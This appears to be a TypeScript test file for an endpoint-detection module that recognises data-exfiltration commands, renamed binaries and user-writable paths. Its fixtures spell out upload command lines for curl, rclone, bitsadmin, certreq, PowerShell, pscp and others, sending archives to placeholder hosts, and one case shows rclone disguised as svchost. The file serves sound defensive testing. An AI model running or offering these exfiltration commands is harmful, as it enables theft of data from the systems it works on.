import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ProcessRef } from '../../enrich/event/endpoint-event.ts';
import { isRenamed } from '../../enrich/evidence/original-name.ts';
import { describeUploader, isUserWritable } from '../../enrich/evidence/uploader.ts';
import { process } from './endpoint-builder.ts';

const SYSTEM32 = 'C:\\Windows\\System32\\';
const about = (commandLine: string, fields: Partial<ProcessRef> = {}) =>
  describeUploader(process({ commandLine, image: `${SYSTEM32}${commandLine.split(' ')[0] ?? ''}`, ...fields }));

describe('describeUploader', () => {
  it.each([
    ['curl.exe -k -F "file=@C:\\t\\x.7z" https://file.io', 'curl', '-F', ['C:\\t\\x.7z'], 'https://file.io'],
    ['curl.exe -ksT x.7z https://h.example/', 'curl', '-T', ['x.7z'], 'https://h.example/'],
    ['curl.exe --data-binary @x.7z -X POST https://h.example', 'curl', '--data-binary', ['x.7z'], 'https://h.example'],
    ['curl.exe -X PUT https://h.example', 'curl', '-X PUT', [], 'https://h.example'],
    ['wget.exe --post-file=x.7z https://h.example', 'wget', '--post-file', ['x.7z'], 'https://h.example'],
    ['rclone.exe --config r.conf copy C:\\d mega:backup --transfers 8', 'rclone', 'copy', ['C:\\d'], 'mega:backup'],
    ['restic.exe -r s3:s3.amazonaws.com/b backup C:\\d', 'restic', 'backup', ['C:\\d'], 's3:s3.amazonaws.com/b'],
    [
      'bitsadmin.exe /transfer j /upload https://h.example/x C:\\t\\x.7z',
      'bitsadmin',
      '/upload',
      ['C:\\t\\x.7z'],
      'https://h.example/x',
    ],
    [
      'certreq.exe -Post -config https://h.example/ C:\\t\\x.7z',
      'certreq',
      '-Post',
      ['C:\\t\\x.7z'],
      'https://h.example/',
    ],
    [
      'ConfigSecurityPolicy.exe C:\\t\\x.7z https://h.example',
      'ConfigSecurityPolicy',
      'a file and an address',
      ['C:\\t\\x.7z'],
      'https://h.example',
    ],
    [
      'powershell.exe irm https://h.example -Method Post -InFile C:\\t\\x.7z',
      'PowerShell',
      '-InFile',
      ['C:\\t\\x.7z'],
      'https://h.example',
    ],
    [
      'powershell.exe Start-BitsTransfer -TransferType Upload -Source C:\\x.7z -Destination https://h.example',
      'PowerShell',
      'Start-BitsTransfer',
      ['C:\\x.7z'],
      'https://h.example',
    ],
    [
      'WinSCP.exe /command "open sftp://u@h.example" "put C:\\t\\x.7z"',
      'WinSCP',
      'put',
      ['C:\\t\\x.7z'],
      'sftp://u@h.example',
    ],
    ['pscp.exe -pw s C:\\t\\x.7z u@h.example:/t', 'PuTTY copy', 'copies to', ['C:\\t\\x.7z'], 'u@h.example:/t'],
    [
      'azcopy.exe copy C:\\d https://a.blob.core.windows.net/c',
      'AzCopy',
      'copy',
      ['C:\\d'],
      'https://a.blob.core.windows.net/c',
    ],
    ['aws.exe s3 cp C:\\x.7z s3://bucket/', 'cloud command line', 'cp', ['C:\\x.7z'], 's3://bucket/'],
    ['ngrok.exe http 8080', 'ngrok', 'tunnel', [], undefined],
  ])('%s sends', (line, tool, verb, files, remote) => {
    const found = about(line);
    expect(found).toMatchObject({ tool, knownBy: 'name', uploads: { verb, files } });
    expect(found.uploads?.remote).toBe(remote);
  });

  it.each([
    'curl.exe -o x https://h.example',
    'curl.exe -H "a: @b" https://h.example',
    'wget.exe https://h.example/x',
    'rclone.exe copy mega:b C:\\d',
    'rclone.exe ls mega:',
    'restic.exe -r x restore latest',
    'bitsadmin.exe /transfer j https://h.example/x C:\\x',
    'powershell.exe iwr https://h.example -OutFile x',
    'pscp.exe u@h.example:/x C:\\t',
    'azcopy.exe copy https://a.blob.core.windows.net/c C:\\d',
    'aws.exe s3 cp s3://b/x C:\\x',
    'ngrok.exe version',
    'certreq.exe -submit x',
  ])('%s does not', (line) => {
    expect(about(line).uploads).toBeUndefined();
  });

  it('finds the sender in a shell’s script', () => {
    expect(about('cmd.exe /c "7z a x.7z d && curl -T x.7z https://h.example/"')).toMatchObject({
      tool: 'curl',
      knownBy: 'script',
      uploads: { verb: '-T' },
    });
  });
  it('knows a renamed rclone by its version resource, and without one by the shape of the command', () => {
    const image = 'C:\\Users\\Public\\svchost.exe';
    expect(about('svchost.exe sync C:\\d box:x', { image, originalName: 'rclone.exe' })).toMatchObject({
      tool: 'rclone',
      knownBy: 'version-resource',
      renamed: true,
      userWritable: true,
      uploads: { verb: 'sync' },
    });
    expect(about('svchost.exe copy C:\\d box:x --no-check-certificate', { image })).toMatchObject({
      tool: 'rclone',
      knownBy: 'command-shape',
    });
    expect(about('svchost.exe copy a b', { image }).tool).toBeUndefined();
  });
  it('names a script host a carrier only when it sends', () => {
    expect(about('powershell.exe Get-Date').tool).toBeUndefined();
    expect(about('powershell.exe Get-Date').lolbin).toBe(true);
  });
  it('never throws on any process', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), fc.string(), (commandLine, image, originalName) => {
        expect(
          describeUploader({ entityId: 'x', entityKind: 'none', commandLine, image, originalName }).reasons,
        ).toBeInstanceOf(Array);
      }),
    );
  });
});

describe('isRenamed', () => {
  it.each([
    ['C:\\Users\\Public\\svchost.exe', 'rclone.exe', true],
    ['C:\\Windows\\System32\\backup.exe', 'rclone.exe', true],
    ['C:\\d\\evil.exe', 'CALC.EXE', true],
    ['C:\\Windows\\System32\\notepad.exe', 'NOTEPAD.EXE.MUI', false],
    ['C:\\t\\procdump64.exe', 'procdump', false],
    ['C:\\Python\\python3.11.exe', 'python.exe', false],
    ['C:\\Program Files (x86)\\Google\\Update\\GoogleUpdateOnDemand.exe', 'goopdate.dll', false],
    ['C:\\Users\\a\\AppData\\Local\\slack\\slack.exe', 'electron.exe', false],
    ['C:\\Program Files\\Vendor\\agent.exe', 'AgentService.exe', false],
    ['C:\\d\\x.exe', '?', undefined],
    ['C:\\d\\x.exe', undefined, undefined],
  ])('%s built as %s: %s', (image, original, expected) => {
    expect(isRenamed(image, original)).toBe(expected);
  });
});

describe('isUserWritable', () => {
  it.each([
    ['C:\\Users\\a\\AppData\\Local\\Temp\\x.exe', true],
    ['C:\\ProgramData\\x.exe', true],
    ['C:\\Windows\\Temp\\x.exe', true],
    ['D:\\tools\\x.exe', true],
    ['C:\\Program Files\\x\\x.exe', false],
    ['C:\\Windows\\System32\\x.exe', false],
    ['C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe', false],
    ['\\Device\\HarddiskVolume3\\Users\\a\\x.exe', true],
  ])('%s: %s', (image, expected) => {
    expect(isUserWritable(image)).toBe(expected);
  });
});
